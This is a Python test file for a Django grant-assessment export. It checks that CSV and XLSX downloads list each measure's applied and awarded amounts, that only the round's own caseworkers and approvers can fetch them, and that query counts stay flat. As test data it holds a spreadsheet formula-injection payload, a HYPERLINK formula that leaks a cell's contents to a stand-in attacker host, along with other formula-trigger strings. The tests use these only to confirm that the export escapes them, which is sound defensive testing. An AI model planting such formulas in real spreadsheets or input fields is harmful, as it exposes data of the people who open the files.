"""The round's assessment as CSV and XLSX: a row per measure and project, what was applied for and
awarded; nothing a municipality typed can run as a spreadsheet formula; only the round's own
office's caseworkers and approvers can download it."""

import csv
import io

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import translation

from applications.models import InnovationProject
from casework.exports import cell_safe, export_csv, export_xlsx, round_export_rows
from casework.models import Outcome
from portal.models import Role
from tests.applications.factories import ApplicationFactory, CompetenceMeasureFactory, InnovationProjectFactory
from tests.casework.factories import AssessmentFactory, DecisionFactory, decided
from tests.helpers import url, warm_user_context
from tests.portal.factories import MembershipFactory, OfficeFactory, OrganisationFactory
from tests.schemes.factories import RoundFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klikk her")'
HEADER_NB = ["Kommune", "Organisasjonsnummer", "Del", "Type", "Tittel", "Rus og psykisk helse", "Søkt om (kr)",
             "Tildelt (kr)"]


def application_in(round_, name, **traits):
    """An application of the municipality `name` (in the round's county), in the state `traits` say."""
    organisation = OrganisationFactory(name=name, county=round_.office.counties.first())
    return ApplicationFactory(round=round_, organisation=organisation, **traits)


@pytest.fixture
def assessed(round_):
    """Alfa is decided (its decision differs from the awards on the lines, as it may after an
    appeal); Beta is in assessment with one proposal missing; a draft and a withdrawn one and
    another round's application are not in play."""
    alfa = application_in(round_, "Alfa kommune", submitted=True)
    CompetenceMeasureFactory(application=alfa, title=HYPERLINK, amount_applied=240_000)
    project = InnovationProjectFactory(application=alfa, title="+1 prosjekt", amount_applied=400_000)
    decision = DecisionFactory(application=alfa, awarded=[240_000, 150_000], approved=True)
    assert decision.outcome == Outcome.PARTLY_GRANTED
    assert (decision.total_applied, decision.total_awarded) == (640_000, 390_000)
    InnovationProject.objects.filter(pk=project.pk).update(proposed_award=100_000)  # the line's award, changed since

    beta = application_in(round_, "Beta kommune", submitted=True)
    measure = CompetenceMeasureFactory(application=beta, title="-2 ledere", kind="leadership",
                                       concerns_mental_health=False, amount_applied=50_000, total_cost=100_000)
    InnovationProjectFactory(application=beta, title="@SUM(A1:A2)", amount_applied=100_000)
    AssessmentFactory(application=beta, awarded={("measure", measure.pk): 30_000})  # now in assessment

    for name, traits in [("Draft kommune", {}), ("Trukket kommune", {"withdrawn": True})]:
        CompetenceMeasureFactory(application=application_in(round_, name, **traits))
    decided(RoundFactory(office=round_.office, year=round_.year - 1, with_criteria=True))  # last year's round
    return alfa, beta


def expected_rows(alfa, beta):
    a, b = alfa.organisation.organisation_number_display, beta.organisation.organisation_number_display
    return [
        ["Alfa kommune", a, "Kompetansetiltak", "Videreutdanning (med studiepoeng)", HYPERLINK, "Ja", 240_000, 240_000],
        ["Alfa kommune", a, "Innovasjonsprosjekt", "", "+1 prosjekt", "Nei", 400_000, 150_000],
        ["Beta kommune", b, "Kompetansetiltak", "Lederopplæring", "-2 ledere", "Nei", 50_000, 30_000],
        ["Beta kommune", b, "Innovasjonsprosjekt", "", "@SUM(A1:A2)", "Nei", 100_000, None],
    ]


# --- the rows ------------------------------------------------------------------------------------

def test_one_row_per_line_of_each_application_in_play_with_the_decided_or_proposed_award(round_, assessed):
    with translation.override("nb"):
        rows = round_export_rows(round_=round_)

    assert rows == expected_rows(*assessed)
    assert " " in rows[0][1] and len(rows[0][1]) == 11  # "972 418 013"
    assert assessed[0].decision.lines[1]["awarded"] == 150_000  # the decision's amount, not the line's 100 000


def test_the_rows_are_read_in_three_queries(round_, assessed, django_assert_num_queries):
    with django_assert_num_queries(3):
        round_export_rows(round_=round_)


@pytest.mark.parametrize("text", [HYPERLINK, "+1", "-2", "@SUM(A1:A2)", "\tx", "\r=1+1"])
def test_text_a_spreadsheet_would_run_is_made_plain_text(text):
    assert cell_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["Alfa kommune", "Kurs i 3 dager", "", None, 240_000, 0])
def test_other_text_and_amounts_are_left_alone(value):
    assert cell_safe(value) == value


# --- the files -----------------------------------------------------------------------------------

def test_the_csv_is_utf8_with_bom_semicolons_and_harmless_titles(round_, assessed):
    with translation.override("nb"):
        content = export_csv(round_export_rows(round_=round_))

    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == HEADER_NB
    assert [row[4] for row in rows[1:]] == ["'" + HYPERLINK, "'+1 prosjekt", "'-2 ledere", "'@SUM(A1:A2)"]
    assert [row[6:] for row in rows[1:]] == [["240000", "240000"], ["400000", "150000"], ["50000", "30000"],
                                             ["100000", ""]]
    assert rows[1][:4] == ["Alfa kommune", assessed[0].organisation.organisation_number_display, "Kompetansetiltak",
                           "Videreutdanning (med studiepoeng)"]


def test_the_xlsx_has_text_as_text_and_amounts_as_numbers(round_, assessed):
    with translation.override("nb"):
        content = export_xlsx(round_export_rows(round_=round_))

    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    values = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert values[0] == HEADER_NB
    expected = [[None if value == "" else value for value in row] for row in expected_rows(*assessed)]  # empty cell
    for row in expected:
        row[4] = "'" + row[4]
    assert values[1:] == expected
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)  # no formula anywhere
    assert sheet["E2"].data_type == "s"
    assert (sheet["G2"].value, sheet["G2"].data_type) == (240_000, "n")
    assert (sheet["H3"].value, sheet["H3"].data_type) == (150_000, "n")
    assert sheet["H5"].value is None


# --- who may download it -------------------------------------------------------------------------

@pytest.mark.parametrize("name, extension, content_type", [
    ("office:export_csv", "csv", "text/csv; charset=utf-8"),
    ("office:export_xlsx", "xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
])
@pytest.mark.parametrize("who", ["caseworker_client", "approver_client"])
def test_the_offices_caseworkers_and_approvers_download_it(request, round_, assessed, name, extension,
                                                          content_type, who):
    client = request.getfixturevalue(who)

    response = client.get(url(name, round_))

    assert response.status_code == 200
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"] == (
        f'attachment; filename="tildeling-{round_.office.slug}-{round_.year}.{extension}"')
    if extension == "csv":
        assert "Beta kommune" in response.content.decode("utf-8-sig")
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        assert "Beta kommune" in [row[0] for row in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize("name", ["office:export_csv", "office:export_xlsx"])
@pytest.mark.parametrize("who, status", [("editor_client", 404), ("signatory_client", 404),
                                         ("national_admin_client", 404), ("office_admin_client", 403)])
def test_municipalities_and_other_roles_are_refused(request, round_, assessed, name, who, status):
    """Outside the office: 404. The office's own admin, who does not work on the round: 403."""
    client = request.getfixturevalue(who)

    assert client.get(url(name, round_)).status_code == status


@pytest.mark.parametrize("name", ["office:export_csv", "office:export_xlsx"])
@pytest.mark.parametrize("role", [Role.CASEWORKER, Role.APPROVER])
def test_another_offices_staff_get_404(client, round_, assessed, name, role):
    client.force_login(MembershipFactory(role=role, office=OfficeFactory()).user)

    assert client.get(url(name, round_)).status_code == 404


def test_an_anonymous_visitor_is_sent_to_log_in(client, round_):
    response = client.get(url("office:export_csv", round_))

    assert response.status_code == 302
    assert "login" in response["Location"]


# --- the query count does not grow ---------------------------------------------------------------

def add_applications(round_, count):
    for _ in range(count):
        application = ApplicationFactory(round=round_, in_assessment=True)
        CompetenceMeasureFactory(application=application, proposed_award=100_000)
        InnovationProjectFactory(application=application)


def queries_for(client, address) -> int:
    warm_user_context(client)
    with CaptureQueriesContext(connection) as queries:
        response = client.get(address)
    assert response.status_code == 200
    return len(queries)


@pytest.mark.parametrize("name", ["office:export_csv", "office:export_xlsx"])
def test_the_query_count_is_the_same_at_5_and_50_applications(caseworker_client, round_, name):
    address = url(name, round_)
    add_applications(round_, 5)
    small = queries_for(caseworker_client, address)
    add_applications(round_, 45)
    large = queries_for(caseworker_client, address)

    assert small == large
    assert len(round_export_rows(round_=round_)) == 100
